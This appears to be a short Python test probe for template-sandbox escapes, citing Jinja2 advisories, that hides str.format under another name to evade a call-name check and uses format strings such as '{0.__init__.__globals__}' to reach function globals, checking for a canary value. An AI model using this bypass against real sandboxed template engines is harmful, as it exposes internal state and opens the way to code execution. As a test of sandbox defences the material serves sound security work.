# Keeps a reference to str.format under another name, past a check of the call's name.
# advisory: CVE-2024-56326 (Jinja2), CVE-2016-10745 (Jinja2)
stored = "{0.__init__.__globals__}".format


class Thing:
    def __init__(self):
        pass


print("ATTEMPTED")
text = list(map(stored, [Thing()]))[0]
if "variable-canary" in text:
    print("ESCAPED", text)
mapped = "{x.__init__.__globals__[reach].__globals__}".format_map
print(len(mapped({"x": Thing()})) > 0)
